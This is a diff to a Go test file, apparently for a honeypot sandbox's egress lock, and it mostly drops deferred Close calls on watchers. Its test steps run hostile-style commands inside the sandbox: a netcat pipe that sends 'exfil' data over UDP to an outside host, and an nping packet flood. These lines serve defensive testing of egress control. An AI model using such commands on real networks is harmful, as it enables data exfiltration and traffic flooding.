@@ -55,7 +55,6 @@ func TestW17_AnswersLeaveAndNothingElse(t *testing.T) {
 	packets = capture(t, lan)
 	var seen recorder
 	watch := lock(t, &seen)
-	defer watch.Close()
 	for _, try := range tries {
 		inside(t, try.command)
 		waitFor(t, "event of "+try.command, func() bool { return len(seen.of(try.protocol, try.addr, try.port)) > 0 })
@@ -119,8 +118,7 @@ func TestW17_AnswersLeaveAndNothingElse(t *testing.T) {
 	watch.Close()
 	packets = capture(t, lan)
 	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 53")
-	again := lock(t, &seen)
-	defer again.Close()
+	lock(t, &seen)
 	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 54")
 	waitFor(t, "event of the second lock", func() bool { return len(seen.of("udp", outside4, "54")) == 1 })
 	greeting(t, attackerNS, addr4+":"+served)
@@ -136,8 +134,7 @@ func TestExitsAreOpenAndNothingElse(t *testing.T) {
 	serve(t, attackerNS, "9090")
 	serve(t, attackerNS, "9091")
 	var seen recorder
-	watch := lock(t, &seen, "tcp:"+attacker4+":9090", "tcp:["+attacker6+"]:9091", "dns:"+attacker4)
-	defer watch.Close()
+	lock(t, &seen, "tcp:"+attacker4+":9090", "tcp:["+attacker6+"]:9091", "dns:"+attacker4)
 
 	resolver, err := listenUDP(t, attackerNS, attacker4+":53")
 	if err != nil {
@@ -187,8 +184,7 @@ func TestICMPErrorsGoToPeersAlone(t *testing.T) {
 	lan := newDecky(t)
 	serve(t, deckyNS, served)
 	var seen recorder
-	watch := lock(t, &seen)
-	defer watch.Close()
+	lock(t, &seen)
 	packets := capture(t, lan)
 
 	var peer net.Conn
@@ -224,8 +220,7 @@ func TestICMPErrorsGoToPeersAlone(t *testing.T) {
 func TestEventsAreLimited(t *testing.T) {
 	newDecky(t)
 	var seen recorder
-	watch := lock(t, &seen)
-	defer watch.Close()
+	lock(t, &seen)
 	began := time.Now()
 	inside(t, "nping --send-ip --udp -N -c 1000 --rate 2000 -p 9 "+outside4)
 	waitFor(t, "event after the flood", func() bool {
